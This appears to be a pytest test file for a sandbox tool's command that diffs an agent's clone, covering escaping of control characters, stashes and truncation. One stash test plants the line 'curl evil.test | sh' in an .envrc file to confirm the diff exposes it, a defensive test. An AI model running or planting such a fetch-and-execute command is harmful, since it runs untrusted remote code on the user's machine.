from pathlib import Path

import pytest

from agent_sandbox.cli.framework.errors import exit_code
from agent_sandbox.features.clones.clones import enter_clone
from agent_sandbox.features.clones.commands import diff as module
from agent_sandbox.features.clones.commands.diff import CUT, STAT, diff, difference
from agent_sandbox.features.clones.fetch import Branch, checked_branches
from agent_sandbox.problems import UserError
from agent_sandbox.project.installed import open_project
from clone_worlds import HereDriver, World, commit, git, make_world, with_clone_driver


def enter(name: str) -> None:
    enter_clone(open_project(None, cwd=Path.cwd()), name, extra_ca=None, quiet=True)


@pytest.fixture
def driver(project: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> HereDriver:
    """Make a clone named fix-1."""
    made = with_clone_driver(project, tmp_path_factory.mktemp("clone"), monkeypatch)
    enter("fix-1")
    return made


def test_shows_changes_with_escaped_control_characters(
    project: Path, driver: HereDriver, capsys: pytest.CaptureFixture[str]
) -> None:
    commit(driver.folder, name="n\x1b[2Jame", text="a\x1b[31mred\r\n\u202e\n")
    (driver.folder / "left").write_text("")
    assert exit_code(diff) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[:2] == ["main  1 commit", 'diff --git "a/n\\033[2Jame" "b/n\\033[2Jame"']
    assert lines[-3:] == ["+a\\x1b[31mred\\x0d", "+\\u202e", "not committed: 1 file: left"]
    assert git(project, "for-each-ref", "refs/remotes") == ""


def test_stat_lists_only_the_files(driver: HereDriver, capsys: pytest.CaptureFixture[str]) -> None:
    commit(driver.folder, text="two\n")
    git(driver.folder, "update-ref", "refs/heads/z\u200b", "HEAD")
    assert exit_code(lambda: diff("fix-1", stat=True)) == 0
    assert capsys.readouterr().out == (
        "main  1 commit\n a.txt | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n"
        "refused: z\\u200b: its name contains invisible characters\n"
    )


def test_labels_a_stash_as_a_stash(driver: HereDriver, capsys: pytest.CaptureFixture[str]) -> None:
    (driver.folder / "a.txt").write_text("stashed\n")
    git(driver.folder, "stash", "push", "--quiet")
    assert exit_code(lambda: diff(stat=True)) == 0
    name = f"stash-{git(driver.folder, 'rev-parse', 'refs/stash')[:10]}"
    assert capsys.readouterr().out == (
        f"{name}  a stash\n a.txt | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n"
    )


def test_reports_a_clone_without_new_commits_and_a_missing_name_of_a_clone(
    driver: HereDriver, capsys: pytest.CaptureFixture[str]
) -> None:
    assert exit_code(diff) == 0
    assert capsys.readouterr().out == "fix-1 has no new commit\n"
    enter("fix-2")
    assert exit_code(diff) == 1
    assert capsys.readouterr().err == (
        "error: NAME: this project has several clones\n  hint: name one of fix-1, fix-2\n"
    )
    assert driver.steps


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def shown(world: World, *, stat: bool = False) -> dict[str, str]:
    with checked_branches(world.volume, world.clone, world.repository, world.status()) as (checked, branches):
        words = STAT if stat else module.PATCH
        return {one.name: difference(checked, world.clone, one, words) for one in branches}


def test_shows_changes_since_the_clone_was_made_and_fetches_nothing(world: World) -> None:
    commit(world.work, text="one\ntwo\n")
    before = git(world.host, "count-objects", "--verbose")
    assert shown(world)["main"].endswith("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n one\n+two\n")
    assert shown(world, stat=True) == {"main": " a.txt | 1 +\n 1 file changed, 1 insertion(+)\n"}
    assert (git(world.host, "count-objects", "--verbose"), world.fetched()) == (before, {})


def test_does_not_show_changes_that_the_project_made_meanwhile(world: World) -> None:
    commit(world.work, name="b.txt", text="b\n")
    commit(world.host, text="other\n")
    git(world.work, "pull", "--quiet", "--no-rebase", "--no-edit", str(world.host), "main")
    commit(world.host, name="c.txt")
    assert " b.txt | 1 +\n" in shown(world, stat=True)["main"]


def test_compares_a_new_branch_with_its_fork_point_and_an_orphan_branch_with_nothing(world: World) -> None:
    git(world.work, "switch", "--quiet", "--create", "topic")
    commit(world.work, name="b.txt", text="b\n")
    git(world.work, "switch", "--quiet", "--orphan", "new")
    commit(world.work, name="c.txt", text="c\n")
    found = shown(world, stat=True)
    assert found["topic"] == " b.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
    assert found["new"] == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"


def test_a_long_difference_is_cut(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST_BYTES", 300)
    commit(world.work, text="".join(f"{number}\n" for number in range(30_000)))
    assert shown(world)["main"].endswith(f"\n{CUT}\n")
    assert len(shown(world)["main"]) < 400


def test_shows_a_stash_with_its_untracked_files(world: World) -> None:
    """`git stash apply` writes them, too."""
    (world.work / "a.txt").write_text("stashed\n")
    (world.work / ".envrc").write_text("curl evil.test | sh\n")
    git(world.work, "stash", "push", "--quiet", "--include-untracked")
    (text,) = shown(world).values()
    assert "\n+stashed\n" in text
    assert "+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil.test | sh\n" in text


def test_compares_a_stash_with_its_parent_and_a_plain_commit_in_its_place_with_the_start(world: World) -> None:
    start = git(world.work, "rev-parse", "HEAD")
    commit(world.work, text="in between\n")
    (world.work / "b.txt").write_text("b\n")
    git(world.work, "add", "b.txt")
    git(world.work, "stash", "push", "--quiet")
    git(world.work, "reset", "--quiet", "--hard", start)
    (text,) = shown(world, stat=True).values()
    assert text == " b.txt | 1 +\n 1 file changed, 1 insertion(+)\n"
    plain = commit(world.work, name="c.txt", text="c\n")
    git(world.work, "reset", "--quiet", "--hard", start)
    git(world.work, "update-ref", "-d", "refs/stash")
    git(world.work, "update-ref", "refs/stash", plain)
    (text,) = shown(world, stat=True).values()
    assert text == " c.txt | 1 +\n 1 file changed, 1 insertion(+)\n"


def test_a_stash_whose_parents_git_cannot_list_is_an_error(world: World) -> None:
    missing = Branch(name="stash-1", reference="", commit="1" * 40, before="", stash=True)
    with (
        checked_branches(world.volume, world.clone, world.repository, world.status()) as (checked, _),
        pytest.raises(UserError, match="fix-1: git rev-list failed: bad object 1111"),
    ):
        difference(checked, world.clone, missing)
